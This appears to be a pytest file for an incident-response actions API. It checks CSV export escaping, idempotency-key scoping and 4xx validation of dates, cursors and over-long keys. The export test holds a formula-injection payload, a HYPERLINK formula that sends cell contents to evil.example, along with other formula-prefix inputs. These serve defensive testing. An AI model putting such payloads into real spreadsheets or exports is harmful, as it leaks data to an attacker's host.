"""Findings of the outside review on the actions API (issue 14), each through real HTTP on both
databases: spreadsheet formulas in the export, idempotency keys tied to their requester and body,
and bad dates, cursors and over-long strings answered with a 4xx naming the field."""

from __future__ import annotations

import base64
import csv
import io

import httpx

from clampdown.model import ActionFilter
from clampdown.permissions import GLOBAL_ADMINISTRATOR
from clampdown.store.actions import ActionStore
from tests.api.conftest import Server

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _auth(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


async def test_export_neutralises_spreadsheet_formulas(server: Server) -> None:
    token = await server.token("lead", GLOBAL_ADMINISTRATOR)
    hostile = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)",
               "\t=1", "\r=1", "=1\r\n=2"]  # fmt: skip
    async with httpx.AsyncClient(base_url=server.base, headers=_auth(token)) as client:
        for value in hostile:
            made = await client.post(
                "/api/v1/actions", json={"type": "okta.suspend_user", "target": value, "reason": value}
            )
            assert made.status_code == 202, made.text
        normal = await client.post(
            "/api/v1/actions",
            json={"type": "okta.suspend_user", "target": "alice", "reason": 'INC-7, "quoted" note'},
        )
        assert normal.status_code == 202
        exported = await client.get("/api/v1/actions/export", params={"format": "csv"})
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert len(rows) == len(hostile) + 1
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(DANGEROUS), (column, cell)
    stored = {a.target for a in await ActionStore(server.engine).list_actions(ActionFilter())}
    exported_targets = {r["target"] for r in rows}
    for target in stored - {"alice"}:
        assert "'" + target in exported_targets  # the value itself is kept, behind the quote
    plain = next(r for r in rows if r["target"] == "alice")
    assert plain["reason"] == 'INC-7, "quoted" note' and plain["type"] == "okta.suspend_user"
    assert plain["id"] == str(normal.json()["id"])


async def test_idempotency_keys_belong_to_their_requester_and_their_body(server: Server) -> None:
    alice = _auth(await server.token("alice-soar", GLOBAL_ADMINISTRATOR))
    bob = _auth(await server.token("bob-soar", GLOBAL_ADMINISTRATOR))
    key = {"Idempotency-Key": "incident-42"}
    first = {"type": "okta.suspend_user", "target": "mallory", "reason": "INC-42"}
    async with httpx.AsyncClient(base_url=server.base, timeout=30) as client:
        mine = await client.post("/api/v1/actions", json=first, headers={**alice, **key})
        assert mine.status_code == 202
        # Bob's equal key is his own: his request is queued, not answered with Alice's action.
        theirs = await client.post(
            "/api/v1/actions", json={"type": "ad.disable_user", "target": "bob-target", "reason": "INC-9"},
            headers={**bob, **key},
        )  # fmt: skip
        assert theirs.status_code == 202, theirs.text
        assert theirs.json()["id"] != mine.json()["id"]
        assert theirs.json()["requested_by"] == "bob-soar" and theirs.json()["type"] == "ad.disable_user"
        again = await client.post("/api/v1/actions", json=first, headers={**alice, **key})
        assert again.status_code == 202 and again.json()["id"] == mine.json()["id"]
        for change, words in (
            ({"type": "ad.disable_user"},
             "idempotency key reused with a different type: was okta.suspend_user, now ad.disable_user"),
            ({"target": "trent"}, "a different target: was mallory, now trent"),
            ({"reason": "INC-43"}, "a different reason: was INC-42, now INC-43"),
            ({"until": "2999-01-01T00:00:00Z"}, "a different until: was none, now 2999-01-01T00:00:00+00:00"),
            ({"request_approval": True}, "a different request approval: was False, now True"),
        ):  # fmt: skip
            refused = await client.post("/api/v1/actions", json={**first, **change}, headers={**alice, **key})
            assert refused.status_code == 409, refused.text
            assert refused.json()["error"]["code"] == "conflict"
            assert words in refused.json()["error"]["message"], refused.json()

        bulk = {"type": "ad.disable_user", "targets": ["u1", "u2"], "reason": "INC-50"}
        bulk_key = {"Idempotency-Key": "bulk-50"}
        made = await client.post("/api/v1/actions/bulk", json=bulk, headers={**alice, **bulk_key})
        assert made.status_code == 202
        repeat = await client.post(
            "/api/v1/actions/bulk", json={**bulk, "targets": ["u2", "u1"]}, headers={**alice, **bulk_key}
        )
        assert repeat.status_code == 202 and repeat.json()["batch_id"] == made.json()["batch_id"]
        assert {a["id"] for a in repeat.json()["actions"]} == {a["id"] for a in made.json()["actions"]}
        for change, words in (
            ({"type": "okta.suspend_user"}, "a different type: was ad.disable_user, now okta.suspend_user"),
            ({"targets": ["u1", "u2", "u3"]}, "different targets: was 2 distinct targets, now 3"),
            ({"targets": ["u1"]}, "different targets"),
        ):
            refused = await client.post(
                "/api/v1/actions/bulk", json={**bulk, **change}, headers={**alice, **bulk_key}
            )
            assert refused.status_code == 409 and words in refused.json()["error"]["message"], refused.text
        other = await client.post(
            "/api/v1/actions/bulk", json={**bulk, "type": "okta.suspend_user"}, headers={**bob, **bulk_key}
        )
        assert other.status_code == 202 and other.json()["batch_id"] != made.json()["batch_id"]

    stored = await ActionStore(server.engine).list_actions(ActionFilter())
    assert len(stored) == 1 + 1 + 2 + 2  # nothing dropped, nothing extra
    for batch in {a.batch_id for a in stored if a.batch_id}:
        in_batch = [a for a in stored if a.batch_id == batch]
        assert len({(a.type, a.requested_by) for a in in_batch}) == 1  # a batch never mixes types
    alice_keyed = [a for a in stored if a.requested_by == "alice-soar" and a.batch_id is None]
    assert [(a.type, a.target) for a in alice_keyed] == [("okta.suspend_user", "mallory")]


OVERFLOWING = ("9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59", "0001-01-01T00:00:00Z")


async def test_dates_out_of_range_are_a_4xx_naming_the_field(server: Server) -> None:
    token = await server.token("lead", GLOBAL_ADMINISTRATOR)
    async with httpx.AsyncClient(base_url=server.base, headers=_auth(token), timeout=30) as client:
        for when in OVERFLOWING:
            for path in ("/api/v1/actions", "/api/v1/actions/export"):
                for field in ("since", "until"):
                    answer = await client.get(path, params={field: when})
                    assert answer.status_code == 422, (path, field, when, answer.text)
                    assert answer.json()["error"]["message"].startswith(f"{field}: "), answer.text
            for path, body in (
                ("/api/v1/actions", {"type": "okta.suspend_user", "target": "x", "reason": "r"}),
                ("/api/v1/playbooks/contain/run", {"target": "x", "reason": "r"}),
                ("/api/v1/playbooks/contain/run", {"target": "x", "reason": "r", "dry_run": True}),
            ):
                answer = await client.post(path, json={**body, "until": when})
                assert answer.status_code == 422, (path, when, answer.text)
                assert answer.json()["error"]["message"].startswith("until: "), answer.text
        fine = await client.get("/api/v1/actions", params={"since": "2026-01-01T00:00:00+05:00"})
        assert fine.status_code == 200
    assert await ActionStore(server.engine).list_actions(ActionFilter()) == []


async def test_cursor_beyond_a_64_bit_id_is_a_4xx_naming_the_cursor(server: Server) -> None:
    token = await server.token("lead", GLOBAL_ADMINISTRATOR)
    async with httpx.AsyncClient(base_url=server.base, headers=_auth(token)) as client:
        for number in ("99999999999999999999999", str(2**63), "0"):
            cursor = base64.urlsafe_b64encode(f"id:{number}".encode()).decode()
            answer = await client.get("/api/v1/actions", params={"cursor": cursor})
            assert answer.status_code == 422, (number, answer.text)
            assert answer.json()["error"]["message"].startswith("cursor: "), answer.text
        raw = await client.get("/api/v1/actions", params={"cursor": "99999999999999999999999"})
        assert raw.status_code == 422 and raw.json()["error"]["message"].startswith("cursor: ")
        last = base64.urlsafe_b64encode(f"id:{2**63 - 1}".encode()).decode()
        assert (await client.get("/api/v1/actions", params={"cursor": last})).status_code == 200


async def test_long_bulk_key_and_long_target_fit_the_stored_key(server: Server) -> None:
    token = await server.token("lead", GLOBAL_ADMINISTRATOR)
    target = "t" * 512
    body = {"type": "okta.suspend_user", "targets": [target, "short"], "reason": "INC-1"}
    headers = {"Idempotency-Key": "k" * 200}
    async with httpx.AsyncClient(base_url=server.base, headers=_auth(token), timeout=30) as client:
        made = await client.post("/api/v1/actions/bulk", json=body, headers=headers)
        assert made.status_code == 202, made.text
        again = await client.post("/api/v1/actions/bulk", json=body, headers=headers)
        assert again.status_code == 202 and again.json() == made.json()
        too_long = await client.post(
            "/api/v1/actions/bulk", json=body, headers={"Idempotency-Key": "k" * 201}
        )
        assert too_long.status_code == 422 and "idempotency-key" in str(too_long.json()["error"]["field"])
        single = await client.post(
            "/api/v1/actions", json={"type": "okta.suspend_user", "target": target, "reason": "r"},
            headers={"Idempotency-Key": "s" * 257},
        )  # fmt: skip
        assert single.status_code == 422 and "idempotency-key" in str(single.json()["error"]["field"])
    stored = await ActionStore(server.engine).list_actions(ActionFilter())
    assert sorted(a.target for a in stored) == sorted([target, "short"])
    assert all(a.idempotency_key and len(a.idempotency_key) <= 256 for a in stored)
